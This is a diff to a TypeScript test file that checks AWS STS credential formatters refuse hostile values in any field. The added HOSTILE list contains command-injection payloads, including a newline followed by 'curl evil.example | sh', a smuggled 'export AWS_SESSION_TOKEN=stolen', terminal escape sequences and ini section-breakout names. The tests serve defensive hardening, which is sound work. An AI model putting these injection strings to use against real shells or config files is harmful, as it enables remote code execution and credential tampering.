@@ -1,6 +1,7 @@
 import { execFileSync } from 'node:child_process';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { UNSHOWABLE } from '../../../src/core/sts/display.ts';
 import { formatEnv } from '../../../src/core/sts/format-env.ts';
 import { formatIni } from '../../../src/core/sts/format-ini.ts';
 import { formatCredentialProcess } from '../../../src/core/sts/format-process.ts';
@@ -61,11 +62,11 @@ describe('formatEnv', () => {
     );
   });
 
-  it('bash reads back exactly the values, whatever they hold', () => {
+  it('bash reads back exactly the values, whatever printable text they hold', () => {
     fc.assert(
       fc.property(
         fc.array(
-          fc.string({ unit: 'grapheme' }).filter((s) => !s.includes('\0')),
+          fc.string({ unit: 'grapheme' }).filter((s) => !UNSHOWABLE.test(s)),
           {
             minLength: 1,
             maxLength: 8,
@@ -130,5 +131,51 @@ describe('formatCredentialProcess', () => {
     expect(JSON.parse(formatCredentialProcess(AWKWARD)).SecretAccessKey).toBe(
       AWKWARD.secretAccessKey,
     );
+  });
+});
+
+describe('every format refuses what it cannot hold (defence in depth behind the response checks)', () => {
+  const HOSTILE: [string, string][] = [
+    ['a newline and a command', '2026-01-31T12:00:00Z\ncurl evil.example | sh'],
+    ['a carriage return', 'x\rexport AWS_SESSION_TOKEN=stolen'],
+    ['a terminal escape', 'x\u001b]0;owned\u0007'],
+    ['a C1 control (CSI)', 'x\u009b2J'],
+    ['a NUL', 'x\u0000y'],
+    ['a line separator', 'x\u2028y'],
+    ['a bidi override', 'x\u202ey'],
+  ];
+  const FIELDS = ['accessKeyId', 'secretAccessKey', 'sessionToken', 'expiration'] as const;
+  const formats: [string, (credentials: StsCredentials, region?: string) => string][] = [
+    ['bash', (c, region) => formatEnv(c, 'bash', region ? { region } : {})],
+    ['fish', (c, region) => formatEnv(c, 'fish', region ? { region } : {})],
+    ['powershell', (c, region) => formatEnv(c, 'powershell', region ? { region } : {})],
+    [
+      'ini',
+      (c, region) => formatIni([{ name: 'p', credentials: c, ...(region ? { region } : {}) }]),
+    ],
+    ['process', (c) => formatCredentialProcess(c)],
+  ];
+
+  for (const [format, write] of formats)
+    describe(format, () => {
+      it.each(HOSTILE)('refuses %s in any field, naming the field', (_what, value) => {
+        for (const field of FIELDS)
+          expect(() => write({ ...CREDS, [field]: value }), field).toThrow(
+            new RegExp(
+              `^${format === 'process' ? 'credential_process' : format} output: ${field} holds U\\+[0-9A-F]{4}`,
+            ),
+          );
+        if (format !== 'process')
+          expect(() => write(CREDS, value)).toThrow(/ output: region holds U\+/);
+      });
+    });
+
+  it('ini refuses a value a reader would cut or a section name that breaks out', () => {
+    for (const value of [' padded', 'tok;en', 'tok#en', ''])
+      expect(() =>
+        formatIni([{ name: 'p', credentials: { ...CREDS, sessionToken: value } }]),
+      ).toThrow(/^ini output: sessionToken /);
+    for (const name of ['a]b', '[p', ' p', 'p\n[default]'])
+      expect(() => formatIni([{ name, credentials: CREDS }])).toThrow(/^ini output: profile name /);
   });
 });
